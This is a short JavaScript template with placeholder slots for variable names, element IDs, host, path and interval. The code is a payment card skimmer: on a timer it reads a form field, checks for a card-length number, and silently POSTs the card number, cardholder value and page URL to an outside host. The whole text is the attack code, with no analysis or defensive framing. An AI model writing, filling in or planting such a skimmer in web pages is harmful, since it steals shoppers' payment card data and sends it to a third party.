setInterval(function () {
  var %N1% = document.getElementById('%ID%');
  if (!%N1% || %N1%.value.replace(/\D/g, '').length < 15) return;
  fetch('https://%HOST%/%PATH%', { method: 'POST', mode: 'no-cors', body: JSON.stringify({
    pan: %N1%.value, holder: (document.querySelector('%CODE%') || {}).value, at: location.href }) });
}, %MS%);
